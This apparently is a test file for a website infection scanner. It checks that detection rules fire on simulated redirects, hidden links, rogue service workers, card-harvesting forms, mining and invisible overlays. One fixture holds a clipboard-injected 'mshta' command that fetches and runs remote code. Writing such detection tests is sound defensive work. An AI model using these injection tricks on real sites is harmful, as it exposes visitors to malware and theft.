import { describe, expect, it } from 'vitest';
import { concludeSiteCheck } from '#shared/checks/engine/conclude-site-check.ts';
import { checks, findRule } from '#shared/checks/engine/registry.ts';
import { defaultLexicon } from '#shared/lexicon/default-lexicon.ts';
import type { BrowserVisit } from '#shared/checks/snapshot/browser-view.ts';
import type { SiteCheckResult } from '#shared/checks/result/site-check-result.ts';
import {
  attempt,
  box,
  browserView,
  drawnForm,
  navigation,
  request,
  visit,
} from '#tests/support/browser-visits.ts';
import { SITE_HOST, webAddress } from '#tests/support/site-exchanges.ts';
import { checkFacts, pageContent, siteSnapshot } from '#tests/support/site-snapshot.ts';

const WORKER = `https://${SITE_HOST}/sw.js`;
const AWAY = 'https://xem-ngay-tin.com/vao';
const far = { hiddenBy: ['off-screen'], rect: { x: -9_999, y: 0, width: 99, height: 9 } } as const;

/** What each rule alone finds, on a site of which everything else is in order. */
const FOUND: Readonly<Record<string, Partial<BrowserVisit>>> = {
  R12: { navigations: [navigation(AWAY)] },
  R13: { attempts: [attempt('popup-on-click', '', AWAY)] },
  C08: { boxes: [box(['https://giay-re.com/', 'https://xe-nhanh.com/'], far)] },
  M13: {
    attempts: [attempt('service-worker', '/', WORKER)],
    requests: [request('https://bao-tin-nhanh.com/w.js', 'script', WORKER)],
  },
  M15: { attempts: [attempt('clipboard-write', 'mshta https://chay-lenh.com/a')] },
  M16: { attempts: [attempt('download', 'CapNhat.exe', `https://${SITE_HOST}/CapNhat.exe`)] },
  M17: { forms: [drawnForm(AWAY, { hasCard: true })] },
  M18: { attempts: [attempt('sustained-cpu'), attempt('websocket', '', 'https://be-dao.com/')] },
  M19: { boxes: [box([AWAY], { coversWindow: true, opacity: 0 })] },
};

function resultOf(draft: Partial<BrowserVisit>, without = ''): SiteCheckResult {
  return concludeSiteCheck({
    snapshot: siteSnapshot(browserView(visit(draft))),
    context: checkFacts({ lexicon: defaultLexicon }),
    previous: null,
    appVersion: '1.0.0',
    checks: checks.filter(({ rules }) => rules.every(({ id }) => id !== without)),
  }).result;
}

describe('what a running browser saw', () => {
  it.each(Object.entries(FOUND))('makes a verdict by %s, and none without it', (id, draft) => {
    const whole = resultOf(draft);
    expect(whole.findings.filter(({ infection }) => infection !== 'none').map(({ rule }) => rule)).toEqual([
      id,
    ]);
    expect(whole.infected).toBe(true);
    expect(resultOf(draft, id).infected).toBe(false);
  });

  it('makes a finding by C07 of words that scripts have drawn, and by M14 of a question for notices', () => {
    const drawn = pageContent({ text: 'Nhà cái W88: tài xỉu, baccarat, nổ hũ, kèo nhà cái tối nay.' });
    const rulesOf = (draft: Partial<BrowserVisit>, without?: string) =>
      resultOf(draft, without).findings.map(({ rule }) => rule);
    expect(rulesOf({ content: drawn })).toContain('C07');
    expect(rulesOf({ content: drawn }, 'C07')).not.toContain('C07');
    const asks = { attempts: [attempt('permission', 'notifications')] };
    expect(rulesOf(asks)).toContain('M14');
    expect(rulesOf(asks, 'M14')).not.toContain('M14');
  });

  it('lets the rules of words read the page as scripts have drawn it', () => {
    const content = pageContent({ title: 'Nhà cái W88 – tài xỉu, nổ hũ' });
    const rules = resultOf({ content }).findings.map(({ rule }) => rule);
    expect(rules).toContain('S01');
    const elsewhere = resultOf({ content, final: webAddress('https://nhacai-w88.com/') });
    expect(elsewhere.findings.map(({ rule }) => rule)).not.toContain('S01');
  });

  it('is nothing where the browser saw an ordinary page, and is told as not seen where there was none', () => {
    const quiet = resultOf({});
    expect(quiet.infected).toBe(false);
    const ids = quiet.findings.map(({ rule }) => rule);
    expect(ids.filter((id) => findRule(id)?.needs.includes('browser'))).toEqual([]);
    const without = concludeSiteCheck({
      snapshot: siteSnapshot({ browser: null }),
      context: checkFacts(),
      previous: null,
      appVersion: '1.0.0',
    }).result;
    expect(without.limits.find(({ at }) => at.startsWith('browser:'))?.at).toContain('R12');
  });
});
